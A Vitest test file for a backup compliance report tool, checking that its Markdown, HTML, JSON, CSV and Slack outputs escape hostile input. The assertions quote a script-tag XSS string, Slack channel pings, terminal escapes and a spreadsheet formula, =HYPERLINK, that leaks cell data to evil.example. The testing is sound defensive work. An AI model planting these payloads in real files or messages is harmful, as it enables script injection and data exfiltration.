import { describe, expect, it } from 'vitest';
import { SLACK_LIMITS } from '../../src/notify/slack-format.js';
import { CSV_COLUMNS, renderCsv } from '../../src/report/render-csv.js';
import { renderHtml } from '../../src/report/render-html.js';
import { renderJson } from '../../src/report/render-json.js';
import { escapeMarkdown, renderMarkdown } from '../../src/report/render-md.js';
import { reportSlack } from '../../src/report/render-slack.js';
import { reportMessage } from '../../src/report/send-report.js';
import type { ComplianceReport } from '../../src/report/types.js';
import { DETAIL_TARGETS, pct, pts } from '../../src/report/view.js';
import { parseCsv } from '../helpers/csv.js';
import { HOSTILE, hostileTarget, sampleReport, targetReport } from '../helpers/report-fixture.js';

const report = sampleReport();
const evil = hostileTarget();
// ESC, BEL and every other C0/C1 control but tab/LF/CR, plus bidi overrides and isolates.
const CONTROL = /[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F-\u009F\u202A-\u202E\u2066-\u2069]/;

describe('markdown', () => {
  const md = renderMarkdown(report);

  it('names the period as people do, the fleet compliance and its change', () => {
    expect(md).toContain('# Backup compliance · week 46, 2026 · 9–15 Nov\n');
    expect(md).toContain(
      'Period: 2026-W46, 2026-11-09 00:00 to 2026-11-16 00:00 (Europe/Berlin), 7d; compared with week 45, 2026 · 2–8 Nov.',
    );
    expect(md).toContain('| Compliance | **75.0% compliant over 92.9% of the week with evidence** (previous 87.5%, -12.5 pts) |');
  });

  it('escapes markup in hostile names so they show as typed and add no HTML, links or table cells', () => {
    expect(md).not.toContain('<script>');
    expect(md).toContain('\\<script\\>');
    expect(md).toContain('\\[link\\](http://evil.example)');
    expect(md).toContain('\\*\\*bold\\*\\*');
    // A `|` in a label value must not add a cell: every row of the table has as many cells as its header.
    const teamTable = md.slice(md.indexOf('## By label team'), md.indexOf('## By label', md.indexOf('## By label team') + 5));
    const cells = teamTable
      .split('\n')
      .filter((l) => l.startsWith('|'))
      .map((l) => l.replace(/\\\|/g, '').split('|').length);
    expect(new Set(cells).size).toBe(1);
  });

  it('strips ANSI escapes and bidi overrides, keeps emoji, and cuts very long strings', () => {
    expect(md).not.toMatch(CONTROL);
    expect(md).toContain('💾');
    expect(md).toContain('👩‍💻');
    expect(md).not.toContain('END-OF-HUGE');
    expect(md.length).toBeLessThan(20_000);
  });

  it('writes a plain-text variant without Markdown escapes for the email text part', () => {
    const text = renderMarkdown(report, { plain: true });
    expect(text).toContain('<script>alert("x")</script>');
    expect(text).not.toContain('\\<');
    expect(text).toContain('| Compliance | 75.0% compliant over 92.9% of the week with evidence (previous 87.5%, -12.5 pts) |');
    expect(text).not.toMatch(CONTROL);
  });

  it('escapes every character Markdown gives meaning to inline', () => {
    expect(escapeMarkdown('a|b*c_d`e[f]g<h>i~j&k#l\\m$n')).toBe('a\\|b\\*c\\_d\\`e\\[f\\]g\\<h\\>i\\~j\\&k\\#l\\\\m\\$n');
  });
});

describe('html', () => {
  const html = renderHtml(report);

  it('is titled with the period as people name it, the machine label only in small print', () => {
    expect(html).toContain('>Backup compliance · week 46, 2026 · 9–15 Nov</h1>');
    expect(html).toContain('<title>Backup compliance · week 46, 2026 · 9–15 Nov: 75.0% compliant');
    expect(html).toContain('2026-W46: 2026-11-09 00:00 to 2026-11-16 00:00 (Europe/Berlin)');
  });

  it('is one document with inline styles only: no scripts, style blocks, external resources or links', () => {
    expect(html.startsWith('<!DOCTYPE html>')).toBe(true);
    expect(html).not.toMatch(/<(script|style|img|link|iframe|object|embed|a)\b/i);
    expect(html).not.toMatch(/\s(src|href|on\w+)\s*=/i);
    expect(html).not.toMatch(/url\(/i);
  });

  it('escapes hostile text in content and attributes', () => {
    expect(html).toContain('&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;');
    expect(html).toContain('&quot;double&quot; &#39;single&#39;');
    expect(html).toContain('&lt;!channel&gt;');
    expect(html).not.toMatch(CONTROL);
    expect(html).toContain('💾');
  });

  it('cuts very long strings so one name cannot bloat or widen the mail', () => {
    expect(html).not.toContain('END-OF-HUGE');
    expect(html.length).toBeLessThan(60_000);
  });

  it('draws one day-cell chart per target and a fleet trend chart', () => {
    expect(html.match(/<svg /g)).toHaveLength(report.targets.length + 1);
    expect(html).toContain('aria-label="Fleet compliance per day: Mon 100.0%, Tue 75.0%,');
    // The hostile target: completed, failed, none, completed, failed, none, completed.
    expect(html).toMatch(/fill="#12b76a"><title>2026-11-09: completed backup/);
    expect(html).toMatch(/fill="#d92d20"><title>2026-11-10: only failed backups/);
    expect(html).toMatch(/fill="#d0d5dd"><title>2026-11-11: no backup/);
  });

  it('limits per-target detail when asked, saying how many were left out', () => {
    const big = renderHtml(sampleReport(30), { maxTargets: 5 });
    expect(big.match(/<svg /g)).toHaveLength(6);
    expect(big).toContain('…and 27 more targets');
  });

  it('details the worst 250 targets of a large fleet by default and points to JSON and CSV for the rest', () => {
    const fleet = sampleReport(300);
    const html = renderHtml(fleet);
    expect(html.match(/<svg /g)).toHaveLength(DETAIL_TARGETS + 1);
    expect(html).toContain('…and 52 more targets: see the JSON or CSV report.');
    const md = renderMarkdown(fleet);
    expect(md.match(/^### /gm)?.length).toBeGreaterThanOrEqual(DETAIL_TARGETS);
    expect(md).not.toContain('### db-0299');
    expect(md).toContain('…and 52 more targets: see the JSON or CSV report.');
    expect(parseCsv(renderCsv(fleet))).toHaveLength(302 + 1);
  });
});

describe('json', () => {
  const text = renderJson(report);
  const parsed = JSON.parse(text) as ComplianceReport;

  it('is the versioned shape, with config identifiers exactly as configured once control characters are removed', () => {
    expect(parsed.version).toBe(2);
    expect(parsed.period.label).toBe('2026-W46');
    expect(parsed.targets[0]?.id).toBe(evil.id);
    expect(parsed.targets[0]?.labels).toEqual({ ...evil.labels, note: 'abcgnp.exe' });
  });

  it('cuts provider reasons to 2000 characters', () => {
    const reason = parsed.targets[0]?.currentAlarms[0]?.reason ?? '';
    expect(Array.from(reason).length).toBeLessThanOrEqual(2000);
    expect(reason.endsWith('…')).toBe(true);
    expect(parsed.fleet.alarmsOpened[0]?.reason.length).toBeLessThanOrEqual(2000);
  });

  it('cuts silence and exclusion reasons to 2000 characters and keeps a missing reason null', () => {
    const x = parsed.exceptions;
    expect(Array.from(x.silences[0]?.reason ?? '').length).toBeLessThanOrEqual(2000);
    expect(x.silences[0]?.reason.endsWith('…')).toBe(true);
    expect(Array.from(x.exclusions[0]?.reason ?? '').length).toBeLessThanOrEqual(2000);
    expect(x.exclusions[1]).toEqual({ account: HOSTILE.formula, match: 'rm-legacy-*', reason: null });
  });

  it('keeps silence authors and matchers as recorded once control characters are removed', () => {
    const s = parsed.exceptions.silences[0];
    expect(s?.author).toBe('<!channel> <http://evil.example|click me> & more [31mRED[0m ]8;;http://evil.examplelink]8;;');
    expect(s?.matchers).toEqual({ target: evil.id, rule: HOSTILE.markdown, labels: { [HOSTILE.quotes]: HOSTILE.formula } });
    expect(parsed.fleet.worstRpo[0]).toEqual({
      target: evil.id,
      longestMs: 72 * 3_600_000,
      p95Ms: 72 * 3_600_000,
      openMs: 21 * 3_600_000,
      objectiveMs: 24 * 3_600_000,
      met: false,
    });
  });

  it('removes terminal escapes and bidi overrides from every value, keeping the visible text', () => {
    expect(text).not.toMatch(CONTROL);
    expect(parsed.targets[0]?.instance).toBe('[31mRED[0m ]8;;http://evil.examplelink]8;;');
    expect(parsed.targets[0]?.labels.note).toBe(HOSTILE.bidi.replace('\u202E', ''));
  });
});

describe('csv', () => {
  const text = renderCsv(report);
  const rows = parseCsv(text);
  const textColumns = ['target', 'cloud', 'account', 'service', 'instance', 'labels', 'alarm_rules_at_end'].map((c) =>
    CSV_COLUMNS.indexOf(c as (typeof CSV_COLUMNS)[number]),
  );

  it('has a header and one row per target, every line ending in CRLF, every row as wide as the header', () => {
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    expect(rows).toHaveLength(report.targets.length + 1);
    for (const r of rows) expect(r).toHaveLength(CSV_COLUMNS.length);
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text.replace(/\r\n/g, '')).not.toMatch(/\r/);
  });

  it('neutralises formulas: a text cell never starts with = + - @ tab or CR', () => {
    for (const r of rows.slice(1)) for (const i of textColumns) expect(r[i] ?? '').not.toMatch(/^[=+\-@\t\r]/);
    expect(rows[1]?.[CSV_COLUMNS.indexOf('account')]).toBe(`'${HOSTILE.formula}`);
  });

  it('quotes per RFC 4180 and strips control characters, keeping emoji', () => {
    expect(text).toContain('""double""');
    expect(text).not.toMatch(CONTROL);
    expect(rows[1]?.[CSV_COLUMNS.indexOf('labels')]).toContain('💾');
  });

  it('cuts a 100 kB cell to 1000 characters', () => {
    const id = rows[1]?.[0] ?? '';
    expect(Array.from(id).length).toBeLessThanOrEqual(1000);
    expect(id).not.toContain('END-OF-HUGE');
  });

  it('writes numbers plainly: percentages, change in points, hours', () => {
    const r = rows[1] ?? [];
    expect(r[CSV_COLUMNS.indexOf('compliance_pct')]).toBe('50.00');
    expect(r[CSV_COLUMNS.indexOf('change_pts')]).toBe('-25.00');
    expect(r[CSV_COLUMNS.indexOf('alarm_hours')]).toBe('60.00');
    expect(r[CSV_COLUMNS.indexOf('alarm_rules_at_end')]).toBe('poll-failing;failed-backup');
  });
});

describe('slack summary and email message', () => {
  it('lists the worst offenders with mrkdwn escaped, within Slack limits', () => {
    const payload = reportSlack(report);
    const body = JSON.stringify(payload);
    expect(body).not.toContain('<!channel>');
    expect(body).not.toContain('<script>');
    expect(body).toContain('&lt;script&gt;');
    expect(payload.blocks.length).toBeLessThanOrEqual(SLACK_LIMITS.blocks);
    for (const b of payload.blocks) if (b.type === 'section') expect(b.text.text.length).toBeLessThanOrEqual(SLACK_LIMITS.sectionText);
    expect(body).toContain('Worst offenders');
    expect(body).not.toMatch(CONTROL);
  });

  it('puts the period and the fleet compliance in the subject', () => {
    expect(reportMessage(report).subject).toBe(
      'Backup compliance · week 46, 2026 · 9–15 Nov: 75.0% compliant over 92.9% of the week with evidence (-12.5 pts), ' +
        '1 of 2 targets in alarm',
    );
  });

  it('heads the Slack summary with the human title', () => {
    const header = { type: 'header', text: { text: 'Backup compliance · week 46, 2026 · 9–15 Nov' } };
    expect(reportSlack(report).blocks[0]).toMatchObject(header);
  });
});

describe('a target nobody could judge', () => {
  const blind = targetReport({
    id: 'never-seen',
    compliance: null,
    evidenceCoverage: 0,
    time: { compliantMs: 0, alarmMs: 0, unknownMs: 168 * 3_600_000 },
    previousCompliance: null,
    complianceChange: null,
  });
  const base = sampleReport();
  const r: ComplianceReport = {
    ...base,
    targets: [blind, ...base.targets],
    fleet: {
      ...base.fleet,
      worstOffenders: [blind.id, ...base.fleet.worstOffenders],
      daily: base.fleet.daily.map((d, i) => (i === 0 ? { ...d, compliance: null, evidenceCoverage: 0 } : d)),
    },
  };

  it('reads "no evidence", never 0%, in every human format', () => {
    const md = renderMarkdown(r);
    const row = md.split('\n').find((l) => l.startsWith('| never-seen |'));
    // Compliance, then the evidence it rests on: none.
    expect(row?.split(' | ').slice(1, 3)).toEqual(['no evidence', '0.0%']);
    expect(md).toMatch(/- Compliance \*\*no evidence\*\*/);
    const html = renderHtml(r);
    expect(html).toMatch(/<span style="color:#667085;[^"]*font-style:italic;">no evidence<\/span>/);
    expect(html).toContain('<title>2026-11-09: no evidence</title>');
    expect(reportSlack(r).text).not.toMatch(/never-seen\S* 0\.0%/);
  });

  it('leaves the compliance cell of the CSV empty and its evidence at 0', () => {
    const rows = parseCsv(renderCsv(r));
    const head = rows[0] ?? [];
    const row = rows.find((x) => x[0] === 'never-seen') ?? [];
    expect(row[head.indexOf('compliance_pct')]).toBe('');
    expect(row[head.indexOf('evidence_pct')]).toBe('0.00');
  });

  it('says null in JSON', () => {
    const parsed = JSON.parse(renderJson(r)) as ComplianceReport;
    expect(parsed.targets[0]).toMatchObject({ id: 'never-seen', compliance: null, evidenceCoverage: 0 });
  });
});

describe('achieved RPO', () => {
  const unknown = targetReport({
    id: 'no-backups-yet',
    rpo: { longestMs: null, p95Ms: null, openMs: null, objectiveMs: 24 * 3_600_000, met: null, backups: 0 },
  });
  const base = sampleReport();
  const r: ComplianceReport = { ...base, targets: [...base.targets, unknown] };
  const none: ComplianceReport = { ...base, fleet: { ...base.fleet, worstRpo: [] } };

  it('tabulates the worst achieved RPOs in Markdown, hostile target names escaped, and gives each target a line', () => {
    const md = renderMarkdown(r);
    expect(md).toContain('## Worst achieved RPO');
    expect(md).toContain('| orders-pg | 1d | 1d | 21h | 1d | met |');
    expect(md).toMatch(/\| evil-\\<script\\>alert\("x"\)\\<\/script\\>A+… \| 3d \| 3d \| 21h \| 1d \| not met \|/);
    expect(md).toContain('- Achieved RPO: longest gap 3d, 95th percentile 3d, 21h open at the period end; objective 1d: not met');
    expect(md).toContain('- Achieved RPO: no completed backup on record; objective 1d: n/a');
  });

  it('tabulates them in HTML and gives each target card a line', () => {
    const html = renderHtml(r);
    expect(html).toContain('Worst achieved RPO</h2>');
    expect(html).toContain('<b style="color:#b42318;">not met</b>');
    expect(html).toContain('Achieved RPO: longest gap 1d, 95th percentile 1d, 21h open at the period end; objective 1d: met');
  });

  it('says "none" when no target has a completed backup on record', () => {
    expect(renderMarkdown(none)).toContain('## Worst achieved RPO\n\nNone: no target has a completed backup on record.');
    expect(renderHtml(none)).toMatch(/Worst achieved RPO<\/h2><p [^>]*>None: no target has a completed backup on record\.<\/p>/);
    expect(JSON.stringify(reportSlack(none))).not.toContain('Worst achieved RPO');
  });

  it('adds hours columns at the end of the CSV, empty when unknown', () => {
    const rows = parseCsv(renderCsv(r));
    expect(rows[0]?.slice(-5, -1)).toEqual(['rpo_longest_hours', 'rpo_p95_hours', 'rpo_open_hours', 'rpo_objective_hours']);
    expect(rows[1]?.slice(-5, -1)).toEqual(['72.00', '72.00', '21.00', '24.00']);
    expect(rows.find((x) => x[0] === 'no-backups-yet')?.slice(-5, -1)).toEqual(['', '', '', '24.00']);
  });

  it('adds the time before the auditor watched a target as the last CSV column', () => {
    const rows = parseCsv(renderCsv({ ...r, targets: [targetReport({ unwatchedMs: 30 * 3_600_000 })] }));
    expect(rows[0]?.at(-1)).toBe('unwatched_hours');
    expect(rows[1]?.at(-1)).toBe('30.00');
  });

  it('names the worst in one Slack line, the name escaped for mrkdwn', () => {
    const fleet = reportSlack(r).blocks[2];
    const text = fleet?.type === 'section' ? fleet.text.text : '';
    expect(text).toMatch(
      /\nWorst achieved RPO: \*evil-&lt;script&gt;alert\("x"\)&lt;\/script&gt;A+…\* longest gap 3d \(objective 1d, not met\)$/,
    );
  });
});

describe('exceptions', () => {
  const base = sampleReport();
  const empty: ComplianceReport = { ...base, exceptions: { silences: [], exclusions: [], disabledRules: [] } };
  const section = (md: string): string => md.slice(md.indexOf('## Exceptions'), md.indexOf('## Targets'));

  it('lists silences with who, why, window, matchers and held-back count, exclusions and disabled rules in Markdown', () => {
    const md = section(renderMarkdown(base));
    expect(md).toContain('| #7 | target evil-\\<script\\>alert("x")\\</script\\>');
    expect(md).toContain(
      '| 2026-11-10 09:00 | 2026-11-12 09:00 (expired early) | \\<!channel\\> \\<http://evil.example\\|click me\\> \\& more',
    );
    expect(md).toMatch(
      /\| \\<script\\>alert\("x"\)\\<\/script\\> \\\*\\\*bold\\\*\\\* \\\[link\\\]\(http:\/\/evil\.example\) \\\| cell .*… \| 3 \|/,
    );
    expect(md).toContain('| =HYPERLINK("http://evil.example/?leak="\\&A1,"click") | rm-legacy-\\* | no reason given |');
    expect(md).toContain('| size-anomaly | rules.size-anomaly | 1: orders-pg |');
    expect(md).toContain('| size-anomaly | targets\\[0\\].rules.size-anomaly | 1: evil-\\<script\\>');
  });

  it('keeps every row of the Markdown exception tables as wide as its header, whatever the text holds', () => {
    const md = section(renderMarkdown(base));
    for (const table of md.split('### ').slice(1)) {
      const cells = table
        .split('\n')
        .filter((l) => l.startsWith('|'))
        .map((l) => l.replace(/\\\|/g, '').split('|').length);
      expect(new Set(cells).size).toBe(1);
    }
    expect(md).not.toContain('<script>');
    expect(md).not.toMatch(CONTROL);
  });

  it('writes the exceptions as typed, without escapes, in the plain-text variant', () => {
    const text = section(renderMarkdown(base, { plain: true }));
    expect(text).toContain('<!channel> <http://evil.example|click me> & more');
    expect(text).toContain('| rm-legacy-* | no reason given |');
    expect(text).not.toMatch(CONTROL);
  });

  it('lists them in HTML with every text escaped', () => {
    const html = renderHtml(base);
    const part = html.slice(html.indexOf('Exceptions</h2>'), html.indexOf('Targets</h2>'));
    expect(part).toContain('#7 target evil-&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;');
    expect(part).toContain('<b>&lt;!channel&gt; &lt;http://evil.example|click me&gt; &amp; more');
    expect(part).toContain('=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1,&quot;click&quot;) / rm-legacy-*');
    expect(part).toContain('no reason given');
    expect(part).toContain('targets[0].rules.size-anomaly');
    expect(part).not.toMatch(/<(script|img|a)\b/i);
    expect(part).not.toContain('END-OF-HUGE');
  });

  it('says "none" for each empty list', () => {
    const md = section(renderMarkdown(empty));
    expect(md).toContain('### Silences\n\nNone: no silence was in force during the period.');
    expect(md).toContain('### Excluded from coverage\n\nNone.');
    expect(md).toContain('### Disabled rules\n\nNone: every rule is enabled for every target.');
    const html = renderHtml(empty);
    expect(html).toContain('>None: no silence was in force during the period.</p>');
    expect(html).toContain('>None.</p>');
    expect(html).toContain('>None: every rule is enabled for every target.</p>');
  });

  it('groups a rule disabled for many targets by where, naming the first few', () => {
    const many = Array.from({ length: 12 }, (_, i) => ({ target: `db-${i}`, rule: 'retention', where: 'rules.retention' }));
    const md = renderMarkdown({ ...base, exceptions: { ...base.exceptions, disabledRules: many } });
    expect(md).toContain('| retention | rules.retention | 12: db-0, db-1, db-2, db-3, db-4 and 7 more |');
  });
});

describe('numbers as people read them', () => {
  it('never rounds an incomplete share up to 100%', () => {
    expect(pct(0.99995)).toBe('99.9%');
    expect(pct(1)).toBe('100.0%');
    expect(pct(0.715976)).toBe('71.6%');
  });

  it('signs a change in percentage points', () => {
    expect([pts(0.015), pts(-0.284024), pts(0), pts(null)]).toEqual(['+1.5 pts', '-28.4 pts', '±0.0 pts', 'n/a']);
  });
});
